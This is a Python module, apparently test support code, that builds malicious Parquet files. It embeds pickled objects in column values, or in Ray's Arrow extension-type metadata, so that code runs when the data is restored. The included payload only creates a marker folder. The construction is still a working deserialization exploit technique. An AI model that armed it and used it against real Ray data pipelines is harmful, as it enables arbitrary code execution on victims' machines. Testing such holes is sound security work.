"""Parquet files as an attacker writes them: columns whose values or types run code where Arrow restores them.

Nothing of Ray is needed to write them: an extension type is a note on a field, and takes effect in a process that knows
its name.
"""

import os
import pickle
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

PICKLED = "ray.data.arrow_pickled_object"
TENSOR = "ray.data.arrow_tensor"


class Payload:
    """Makes a folder when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return os.mkdir, (str(self.marker),)


def extension_field(name: str, storage: pa.DataType, extension: str, note: bytes = b"") -> pa.Field:
    notes = {b"ARROW:extension:name": extension.encode(), b"ARROW:extension:metadata": note}
    return pa.field(name, storage, metadata=notes)


def pickled_field(name: str = "item") -> pa.Field:
    return extension_field(name, pa.large_binary(), PICKLED)


def poison(path: Path, column: str, marker: Path, *, deep: bool = False) -> None:
    """Put pickled objects in the place of a column, or add it; `deep` puts them into lists."""
    table = pq.read_table(path)
    value = pickle.dumps(Payload(marker))
    field = pa.field(column, pa.list_(pickled_field())) if deep else pickled_field(column)
    values = pa.array([[value] if deep else value] * len(table), field.type)
    at = table.column_names.index(column) if column in table.column_names else len(table.column_names)
    kept = table.drop_columns([column]) if column in table.column_names else table
    pq.write_table(kept.add_column(at, field, values), path)


def poison_type(path: Path, column: str, marker: Path) -> None:
    """Add a column whose type itself is a pickle: no value of it needs to be looked at."""
    table = pq.read_table(path)
    storage = pa.list_(pa.int64())
    field = extension_field(column, storage, TENSOR, pickle.dumps(Payload(marker)))
    pq.write_table(table.append_column(field, pa.array([[1]] * len(table), storage)), path)
